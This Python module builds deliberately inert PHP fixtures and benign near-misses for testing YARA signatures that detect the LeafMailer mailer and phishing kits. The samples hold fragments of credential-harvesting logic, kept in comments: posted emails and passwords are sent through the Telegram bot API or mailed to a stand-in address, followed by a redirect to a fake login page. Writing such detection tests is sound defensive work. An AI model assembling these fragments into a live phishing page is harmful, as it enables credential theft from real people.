"""Inert samples and near-misses for signatures/rules/phishing_mailers.yar.

Samples are PHP pages that exit on their first line and keep the mailer's or kit's code inside a
comment; addresses are the documentation network and example domains. Near-misses are honest
contact forms and a Telegram notification bot.
"""

from __future__ import annotations

from sample_blocks import INERT_NOTE, Builders, split, text


def leaf_page() -> dict[str, bytes]:
    return {
        "leaf-phpmailer-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            split("$leaf['web", "site']=\"leafmailer", '.pw";'),
            split("function leaf", "Trim($string){ return stripslashes(ltrim(rtrim($string))); }"),
            split("function leaf", "MailCheck($email){ return filter_var($email, FILTER_VALIDATE_EMAIL); }"),
            split('$text = str_replace("[-random', 'md5-]", md5(rand()), $text);'),
            "*/",
        )
    }


def leaf_gate() -> dict[str, bytes]:
    return {
        "leaf-password-gate-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            '$password = "example"; session_start();',
            split('ini_set("memory_', 'limit",-1);'),
            split("$leaf['ver", 'sion\']="2.8";'),
            split("$leaf['web", 'site\']="example.invalid";'),
            split("$sessioncode = md5(__", "FILE__);"),
            split("if (isset($_REQUEST['pass']) and $_REQUEST['pass'] ", "== $password) { }"),
            "*/",
        )
    }


def telegram_kit() -> dict[str, bytes]:
    return {
        "phishkit-telegram-result-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "$ip = getenv('REMOTE_ADDR'); $ua = $_SERVER['HTTP_USER_AGENT'];",
            split('$message .= "|Email : ".$_POST', "['email'].\"\\n\";"),
            split('$message .= "|Pass', 'word : ".$_POST', "['password'].\"\\n\";"),
            split('$website = "https://api.telegram', '.org/bot".$botToken;'),
            split(
                "file_get_contents($website . '/send", "Message?chat_id=' . $chatId . '&text=' . urlencode($message));"
            ),
            split('header("Location: ', 'https://www.example.com/login");'),
            "*/",
        )
    }


def mail_kit() -> dict[str, bytes]:
    return {
        "phishkit-mail-result-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "$ip = $_SERVER['REMOTE_ADDR']; $hostname = gethostbyaddr($ip);",
            split('$message .= "Email Address : ".$_POST', "['login'].\"\\n\";"),
            split('$message .= "Pass', 'word : ".$_POST', "['passwd'].\"\\n\";"),
            '$message .= "IP : ".$ip." Host : ".$hostname."\\n";',
            '$send = "results@example.invalid"; $subject = "Login | $ip";',
            split("mail($send, ", "$subject, $message);"),
            split('header("Location: ', 'https://outlook.example.com/");'),
            "*/",
        )
    }


def near_contact() -> dict[str, bytes]:
    return {
        "contact-form-php": text(
            "<?php",
            "// contact form handler",
            '$message = "New enquiry\\n";',
            '$message .= "Name: " . $_POST[\'name\'] . "\\n";',
            '$message .= "Email: " . $_POST[\'email\'] . "\\n";',
            '$message .= "Message: " . $_POST[\'message\'] . "\\n";',
            "$message .= \"Sent from: \" . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];",
            "mail($to, $subject, $message);",
            'header("Location: https://www.example.com/thanks.html");',
        )
    }


def near_telegram() -> dict[str, bytes]:
    return {
        "telegram-order-notify-php": text(
            "<?php",
            '$website = "https://api.telegram.org/bot" . $botToken;',
            "$text = \"New order #\" . (int) $_POST['order_id'] . \" from \" . $_SERVER['REMOTE_ADDR'];",
            "file_get_contents($website . '/sendMessage?chat_id=' . $chatId . '&text=' . urlencode($text));",
            'header("Location: https://shop.example.com/thanks");',
        )
    }


def near_leaf_tree() -> dict[str, bytes]:
    return {
        "taxonomy-tree-php": text(
            "<?php",
            "// a tree of categories: every node without children is a leaf",
            "$leaf['version'] = $node->revision;",
            "$leaf['website'] = $node->url;",
            "$cache_key = md5($node->path);",
            "function leafLabel($leaf) { return trim($leaf['title']); }",
            "mail($admin, 'tree rebuilt', count($leaves) . ' leaves');",
        )
    }


SAMPLES: Builders = {
    "LeafMailer_Page": leaf_page,
    "LeafMailer_Password_Gate": leaf_gate,
    "PhishingKit_Telegram_Exfil": telegram_kit,
    "PhishingKit_Mail_Result": mail_kit,
}

NEARMISS: Builders = {
    "LeafMailer_Page": near_leaf_tree,
    "LeafMailer_Password_Gate": near_leaf_tree,
    "PhishingKit_Telegram_Exfil": near_telegram,
    "PhishingKit_Mail_Result": near_contact,
}
